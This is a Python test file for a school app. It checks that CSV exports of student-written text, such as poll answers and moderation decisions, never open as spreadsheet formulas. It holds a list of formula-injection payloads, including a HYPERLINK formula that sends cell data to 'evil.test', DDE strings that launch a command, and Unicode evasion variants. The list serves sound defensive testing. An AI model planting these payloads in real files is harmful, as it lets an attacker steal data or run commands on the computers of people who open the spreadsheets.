"""Files that teachers open in a spreadsheet: whatever students write, no cell is a formula."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest

from core.store.tables import Poll
from core.wording.cells import csv_file
from tests.abuse.spoiled import Spoiled
from tests.tool import Tool

DATABASES = ("sqlite",)
KEYS_KNOWN = True

FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.test?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", " =1+1", "\"=1+1", "'=1+1", "\u200b=1+1", "\ufeff=1+1",
    "−1+1", "﹣1+1", "%0A=1+1", ";=1+1", ",=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
STARTS = "=+-@＝＋－＠﹢﹣﹦−"


def formulas(data: bytes) -> list[str]:
    """Cells that a spreadsheet would take for a formula: it passes over white space, quotes and invisible signs."""
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    return [
        cell for cell in cells if cell.lstrip(' \t\r\n"\u200b\ufeff').startswith(tuple(STARTS)) and not is_number(cell)
    ]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_corpus_would_be_formulas_without_care() -> None:
    plain = io.StringIO(newline="")
    csv.writer(plain).writerows([[text] for text in FORMULAS])
    assert len(formulas(plain.getvalue().encode())) >= 18


def test_no_cell_is_one() -> None:
    assert formulas(csv_file([[text, "x", -1.5] for text in FORMULAS])) == []


def test_the_record_of_decisions_has_none(tool: Tool) -> None:
    at = Spoiled(tool, "questions", hold_at="1", daily="500", anonymity="named")
    author, reporter = at.join("=1+1"), at.join()
    for place, text in enumerate(FORMULAS):
        title = f"{text} {place}?"
        at.post(f"{at.home}/ask", author, title=title, text=text, anyway="yes")
        if place < 20:
            at.report(reporter, at.newest(), text)
            at.decide(at.newest(), "retire", text)
    file = at.get(f"{at.teach}/decisions.csv", at.teacher)
    assert file.mimetype == "text/csv"
    assert len(file.data.splitlines()) > 40
    assert formulas(file.data) == []


def test_what_people_answered_in_polls_has_none(tool: Tool) -> None:
    at = Spoiled(tool, "poll", anonymity="named")
    made = at.post(f"{at.home}/new/text", at.teacher, prompt="=1+1?", results="at_once")
    assert made.status_code == 200, made.text
    poll = tool.one(Poll).id
    opened = at.post(f"{at.home}/{poll}/open", at.teacher)
    assert opened.status_code == 200, opened.text
    for text in FORMULAS[:8]:
        at.post(f"{at.home}/{poll}/vote", at.join(), entry=text)
    file = at.get(f"{at.home}/{poll}/export", at.teacher)
    assert file.status_code == 200, file.text
    assert len(file.data.splitlines()) >= 8
    assert formulas(file.data) == []


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    source = tmp_path / "cells.csv"
    source.write_bytes(csv_file([[text] for text in FORMULAS]))
    command = ["soffice", "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    assert "table:formula" not in (tmp_path / "cells.fods").read_text(encoding="utf-8")
